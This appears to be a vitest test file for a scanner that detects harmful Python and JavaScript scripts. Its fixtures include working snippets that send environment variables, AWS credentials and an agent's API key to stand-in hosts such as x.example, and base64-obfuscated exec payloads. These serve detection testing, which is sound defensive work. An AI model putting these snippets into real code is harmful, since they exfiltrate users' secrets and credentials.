import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { harmfulJavaScript, harmfulPython } from "../testing/harmful-scripts.ts";
import { harmlessJavaScript, harmlessPython } from "../testing/harmless-scripts.ts";
import { judgeScripts, type Script } from "./judge-scripts.ts";
import { mayHarm, traitsOf } from "./relevance.ts";

/** "EXF-001 a.py:3", and what is said. */
function seenIn(scripts: readonly Script[]): readonly (readonly [string, string])[] {
  return [...judgeScripts(scripts).hits].flatMap(([path, bySignal]) =>
    [...bySignal].flatMap(([signal, hits]) =>
      hits.map(({ line, does }) => [`${signal} ${path}:${line}`, does] as const),
    ),
  );
}

function signalsIn(text: string, language: Script["language"]): readonly string[] {
  const seen = seenIn([{ path: "a", text, language }]);
  return [...new Set(seen.map(([place]) => place.split(" ")[0] ?? ""))];
}

function isRead(text: string): boolean {
  return mayHarm(traitsOf(text.toLowerCase()));
}

describe.each(Object.entries(harmfulPython))("Python: %s", (signal, texts) => {
  test.for(texts)("%s", (text) => {
    expect(signalsIn(text, "python")).toContain(signal);
    expect(isRead(text)).toBe(true);
  });
});

describe.each(Object.entries(harmfulJavaScript))("JavaScript: %s", (signal, texts) => {
  test.for(texts)("%s", (text) => {
    expect(signalsIn(text, "typescript")).toContain(signal);
    expect(isRead(text)).toBe(true);
  });
});

test.for(harmlessPython)("nothing is said of %s", (text) => {
  expect(seenIn([{ path: "a", text, language: "python" }])).toEqual([]);
});

test.for(harmlessJavaScript)("nothing is said of %s", (text) => {
  expect(seenIn([{ path: "a", text, language: "typescript" }])).toEqual([]);
});

const collector =
  "import os\n\nclass Collector:\n    def collect(self):\n        found = {}\n        for k, v in os.environ.items():\n            found[k] = v\n        return found\n";
const sender =
  "import requests\n\ndef send(what):\n    requests.post('https://x.example', json=what)\n";

test("what one script collects and another sends is reported where it is sent", () => {
  const main =
    "from lib.collector import Collector\nfrom lib import sender\n\nsender.send(Collector().collect())\n";
  expect(
    seenIn([
      { path: "main.py", text: main, language: "python" },
      { path: "lib/collector.py", text: collector, language: "python" },
      { path: "lib/sender.py", text: sender, language: "python" },
    ]),
  ).toEqual([
    [
      "EXF-001 lib/sender.py:4",
      "sends the environment, read in lib/collector.py line 6, to x.example",
    ],
  ]);
});

test("two scripts that do not meet do nothing together", () => {
  expect(
    seenIn([
      { path: "collector.py", text: collector, language: "python" },
      { path: "sender.py", text: sender, language: "python" },
    ]),
  ).toEqual([]);
});

test.each([
  [
    "module.exports = { all: () => ({ ...process.env }) };",
    "const { all } = require('./take');\nfetch('https://x.example', { method: 'POST', body: all() });",
  ],
  [
    "export const all = () => Object.entries(process.env);",
    "import { all } from './take.js';\nfetch('https://x.example', { method: 'POST', body: String(all()) });",
  ],
  [
    "export default function () { return JSON.stringify(process.env); }",
    "import take from './take';\nfetch('https://x.example/?d=' + take());",
  ],
])("modules of JavaScript hand on what they take: %s", (take, give) => {
  const seen = seenIn([
    { path: "take.js", text: take, language: "javascript" },
    { path: "give.js", text: give, language: "javascript" },
  ]);
  expect(seen).toEqual([
    [expect.stringMatching(/^EXF-001 give\.js:\d$/), expect.stringContaining("take.js line 1")],
  ]);
});

test("what a hidden text does is reported, too", () => {
  const inner = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))";
  const text = `import base64\nexec(base64.b64decode('${Buffer.from(inner).toString("base64")}'))`;
  expect(seenIn([{ path: "a.py", text, language: "python" }])).toEqual([
    ["EXE-001 a.py:2", "decodes a text and runs it as code"],
    ["EXF-001 a.py:2", "runs hidden code that sends the environment, read in line 2, to x.example"],
  ]);
});

test("a text that hides itself again and again is read a few times", () => {
  let text = "print(1)";
  for (let depth = 0; depth < 8; depth += 1) {
    text = `import base64\nexec(base64.b64decode('${Buffer.from(text).toString("base64")}'))`;
  }
  expect(signalsIn(text, "python")).toEqual(["EXE-001"]);
});

test("long scripts next to a short one do not hide it", () => {
  const long = ["a.py", "b.py", "c.py"].map((path): Script => ({
    path,
    text: "# nothing\n".repeat(39_000),
    language: "python",
  }));
  const text = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))";
  const short: Script = { path: "z.py", text, language: "python" };
  expect(seenIn([...long, short])).toEqual([
    ["EXF-001 z.py:2", "sends the environment, read in line 2, to x.example"],
  ]);
});

const tokens = [
  "import os",
  "requests.post(",
  "os.environ",
  "def f(x):\n",
  "return x",
  "(",
  ")",
  "[",
  "]",
  "{",
  "}",
  "'",
  '"',
  "`",
  "${",
  "\n",
  "    ",
  "for k in ",
  "class A:",
  "lambda x: ",
  "=>",
  "function f(",
  "const {a, ...b} = ",
  "exec(",
  "eval(",
  "base64.b64decode(",
  "process.env",
  "x",
  " = ",
  "+",
  "x += x + 'a'",
  ".join(",
  "await ",
  "\\x41",
  "\uD800",
  "\uFFFC",
  "self.x",
  "...",
];

test("no text makes it fail", () => {
  const text = fc.array(fc.oneof(fc.constantFrom(...tokens), fc.string({ maxLength: 8 })), {
    maxLength: 60,
  });
  const language = fc.constantFrom("python", "javascript", "typescript");
  fc.assert(
    fc.property(text, language, (parts, one) => {
      expect(seenIn([{ path: "a", text: parts.join(""), language: one }]).length).toBeLessThan(61);
    }),
    { numRuns: 400 },
  );
});

test.each<[Script["language"], string]>([
  ["python", "("],
  ["python", "[x for x in "],
  ["python", "x = x + 'ab'\n"],
  ["python", "f(a, "],
  ["python", "a.b."],
  ["python", "def f(x):\n return f(x)\n"],
  ["python", "x = {'a': x}\n"],
  ["python", "os.system('a ' + x + "],
  ["python", "x = base64.b64decode(x)\n"],
  ["javascript", "(() => "],
  ["javascript", "{a:"],
  ["javascript", "[[1],"],
  ["javascript", "`${"],
  ["javascript", "x = { a: x };"],
  ["javascript", "f(g(x)); function g(y) { return f(y); }"],
  ["typescript", "a<b<"],
])("%s: a text of many times %s takes no longer than its length allows", (language, unit) => {
  const timeOf = (length: number): number => {
    const text = unit.repeat(Math.ceil(length / unit.length));
    const started = process.cpuUsage().user;
    judgeScripts([{ path: "a", text, language }]);
    return (process.cpuUsage().user - started) / 1_000;
  };
  timeOf(4_000);
  expect(timeOf(40_000)).toBeLessThan(4_000);
});

test.each([
  ["of the same script is as grave as the file", "", undefined],
  ["of another script is a guess", "from a import keys\n", "medium"],
])("an entry of a file of secrets %s", (_name, imported, severity) => {
  const read = "import json\nkeys = json.load(open('/home/me/.aws/credentials'))\n";
  const send = "import requests\nrequests.post('https://x.example', data=keys['a'])\n";
  const scripts: readonly Script[] =
    imported === ""
      ? [{ path: "a.py", text: read + send, language: "python" }]
      : [
          { path: "a.py", text: read, language: "python" },
          { path: "b.py", text: imported + send, language: "python" },
        ];
  const hits = [...judgeScripts(scripts).hits].flatMap(([, bySignal]) => [
    ...(bySignal.get("EXF-001") ?? []),
  ]);
  expect(hits).toHaveLength(1);
  expect(hits[0]?.severity).toBe(severity);
});

function severitiesFor(host: string): readonly (string | undefined)[] {
  const text = `import json, os, requests\nc = json.load(open(os.path.expanduser('~/.clawdbot/clawdbot.json')))\nrequests.post('https://${host}/v1', json={'k': c['a']['b']})`;
  const { hits } = judgeScripts([{ path: "a", text, language: "python" }]);
  return [...hits.values()].flatMap((bySignal) =>
    [...bySignal.values()].flat().map(({ severity }) => severity),
  );
}

test("an entry of an agent's settings that goes to a service of models is mostly its key", () => {
  expect(severitiesFor("api.openai.com")).toEqual(["medium"]);
  expect(severitiesFor("c.zzz.io")).toEqual([undefined]);
});
